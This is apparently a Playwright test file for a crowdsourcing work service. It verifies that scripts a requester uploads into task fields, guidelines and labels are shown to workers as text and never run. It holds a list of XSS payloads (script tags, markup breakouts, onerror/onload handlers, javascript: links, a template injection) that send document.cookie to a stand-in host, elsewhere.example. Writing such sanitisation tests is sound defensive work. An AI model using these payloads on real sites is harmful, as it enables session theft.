"""Script in what a requester uploads: shown to a worker in Chromium, and never run."""

from __future__ import annotations

import msgspec
from playwright.async_api import expect

from service.spec import Spec
from service.workpage.choice import question_xml
from tests.browser.test_worker_in_chromium import join

RUN = "top.ran=1;window.ran=1;fetch('//elsewhere.example/'+document.cookie)"
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"</fieldset></form></script><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'"><svg onload="{RUN}">',
    f"]]></HTMLContent><script>{RUN}</script>",
    f"javascript:{RUN}",
    "{{constructor.constructor('return 1')()}}",
]
SPEC = {
    "name": SCRIPTS[0],
    "title": SCRIPTS[1],
    "guidelines": "\n\n".join(
        [*SCRIPTS, f"[look](javascript:{RUN})", f"![x](x'onerror={RUN})", f"<a href=javascript:{RUN}>x</a>"]
    ),
    "task": {
        "type": "choice",
        "question": SCRIPTS[2],
        "labels": SCRIPTS,
        "template": [
            {"field": "text", "title": SCRIPTS[3]},
            {"field": "image", "show": "image", "title": SCRIPTS[3]},
            {"field": "link", "show": "link"},
        ],
    },
    "reward": "0.05",
    "budget": "1.00",
}


async def test_scripts_in_payloads_labels_and_guidelines_are_shown_and_not_run(live, requester, page):
    payloads = [{"text": script, "image": script, "link": script} for script in SCRIPTS]
    hit = await live.create_hit(Question=question_xml(msgspec.convert(SPEC, Spec), payloads), Title="Shown")
    requests, dialogs = [], []
    page.on("request", lambda request: requests.append(request.url))
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    [(_, link)] = await requester.invite(1)
    await join(page, link)
    await page.goto(f"{live.url}/worker/hits/{hit['HITId']}")
    for _ in ("preview", "work"):
        frame = page.frame_locator("#question")
        await expect(frame.locator("fieldset")).to_have_count(len(SCRIPTS))
        for number, script in enumerate(SCRIPTS):
            slot = frame.locator("fieldset").nth(number)
            await expect(slot.locator(".shown").first).to_contain_text(script)
            await expect(slot.locator(".labels label")).to_have_count(len(SCRIPTS))
        await frame.locator("details").evaluate("each => { each.querySelectorAll('a').forEach(a => a.click()); }")
        assert await page.evaluate("window.ran") is None
        assert await frame.locator("body").evaluate("() => window.ran") is None
        assert await frame.locator("script").count() == 1, "the page's own"
        if await page.get_by_role("button", name="Accept").count():
            await page.get_by_role("button", name="Accept").click()
            await page.wait_for_url("**/worker/assignments/*")
    assert not [url for url in requests if not url.startswith((f"{live.url}/", "data:"))]
    assert dialogs == []
